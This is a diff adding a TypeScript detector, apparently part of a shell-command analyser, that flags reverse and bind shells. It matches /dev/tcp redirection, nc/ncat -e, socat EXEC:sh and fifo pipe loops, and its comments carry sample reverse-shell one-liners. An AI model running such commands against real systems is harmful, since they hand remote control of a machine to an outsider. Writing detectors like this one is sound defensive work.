@@ -1,0 +1,85 @@
+/**
+ * Remote control: a shell or interpreter whose input and output are a network connection (reverse and bind shells). A
+ * script that is fetched over HTTP and run is something else: its text ends, and nobody types into it.
+ */
+import type { Evaluation, Flow, Invocation } from "../invocation.ts";
+import { type Arg, known } from "../invocation.ts";
+import { cardOf } from "../programs/cards.ts";
+import { headOf } from "../word/pieces.ts";
+import { sendingsOf } from "./sends.ts";
+
+/** bash opens these itself: bash(1), "Redirection". */
+const NETWORK_FILE = /^\/dev\/(?:tcp|udp)\//;
+
+function isNetworkFile(path: Arg): boolean {
+  return NETWORK_FILE.test(headOf(path));
+}
+
+function isShell({ program }: Invocation): boolean {
+  return cardOf(program)?.runs === "shell";
+}
+
+/** Does the invocation hold a connection open: nc, telnet, socat, openssl s_client? */
+function connects(invocation: Invocation | undefined): boolean {
+  if (invocation === undefined) return false;
+  const isListener = /^(?:nc|ncat|netcat|nc\.traditional)$/.test(invocation.program ?? "");
+  return isListener || sendingsOf(invocation).some(({ sink }) => sink === "socket");
+}
+
+/** Would somebody at the other end of a connection type into what this starts? */
+export function isRemotelyControlled(invocation: Invocation, evaluation: Evaluation): boolean {
+  if (startsProgramOnConnection(invocation)) return true;
+  return (
+    isShell(invocation) && (readsNetwork(invocation, evaluation) || talksToNetwork(invocation, evaluation))
+  );
+}
+
+const COMMAND_OPTIONS = /^-[a-zA-Z]*[ec]$|^--(?:sh-exec|exec|lua-exec)(?:=|$)/;
+
+/** A shell or an interpreter, as a word or within one. */
+const TYPED_INTO =
+  /(?:^|[\s:/'"=])(?:(?:ba|da|z|k|a|c|tc|fi)?sh|cmd|powershell|pwsh|python[\d.]*|perl|ruby|node|php)(?:\.exe)?(?=$|[\s,'"])|^shell:|\$SHELL/i;
+
+const NETWORK_ADDRESS = /^(?:(?:tcp|udp|sctp|ssl|openssl|socks|proxy|vsock|dtls)\w*(?:-\w+)*):/i;
+
+/** `nc -e /bin/sh`, `ncat --sh-exec`, `socat … EXEC:sh`: the client itself ties a program to the connection. */
+function startsProgramOnConnection({ program, args }: Invocation): boolean {
+  const words = args.map((arg) => known(arg) ?? headOf(arg));
+  if (/^(?:nc|ncat|netcat|nc\.traditional)$/.test(program ?? ""))
+    return words.some((word) => COMMAND_OPTIONS.test(word)) && words.some((word) => TYPED_INTO.test(word));
+  if (program !== "socat") return false;
+  const starts = words.some((word) => /^(?:exec|system|shell):/i.test(word) && TYPED_INTO.test(word));
+  return starts && words.some((word) => NETWORK_ADDRESS.test(word));
+}
+
+/** A shell reads its commands from the network: `sh <&5` of a socket, `nc host 1 | sh`. */
+function readsNetwork({ stdin, redirections }: Invocation, { invocations }: Evaluation): boolean {
+  if (stdin.kind === "file" && isNetworkFile(stdin.path)) return true;
+  if (redirections.some(({ target }) => isNetworkFile(target))) return true;
+  return stdin.kind === "pipe" && stdin.ids.some((id) => connects(invocations[id]));
+}
+
+/** `mkfifo f; cat f | sh -i 2>&1 | nc host 1 > f`: its output goes to a client whose answers come back to it. */
+function talksToNetwork(shell: Invocation, { invocations }: Evaluation): boolean {
+  if (shell.stdin.kind !== "pipe" && shell.stdin.kind !== "file") return false;
+  const clients = shell.stdout
+    .flatMap((flow) => (flow.kind === "pipe" ? flow.ids : []))
+    .map((id) => invocations[id]);
+  const answers = clients.flatMap((client) => (client && connects(client) ? client.stdout : []));
+  if (answers.length === 0) return false;
+  const files = new Set(answers.flatMap(fileOf));
+  if (shell.stdin.kind === "file") return files.has(known(shell.stdin.path) ?? "");
+  const feeders = shell.stdin.ids.map((id) => invocations[id]);
+  return (
+    feeders.some((feeder) => feeder?.args.some((arg) => files.has(known(arg) ?? "")) === true) ||
+    isInteractive(shell)
+  );
+}
+
+function fileOf(flow: Flow): string[] {
+  return flow.kind === "file" ? [known(flow.path) ?? ""] : [];
+}
+
+function isInteractive({ args }: Invocation): boolean {
+  return args.some((arg) => /^-[a-z]*i/.test(known(arg) ?? ""));
+}
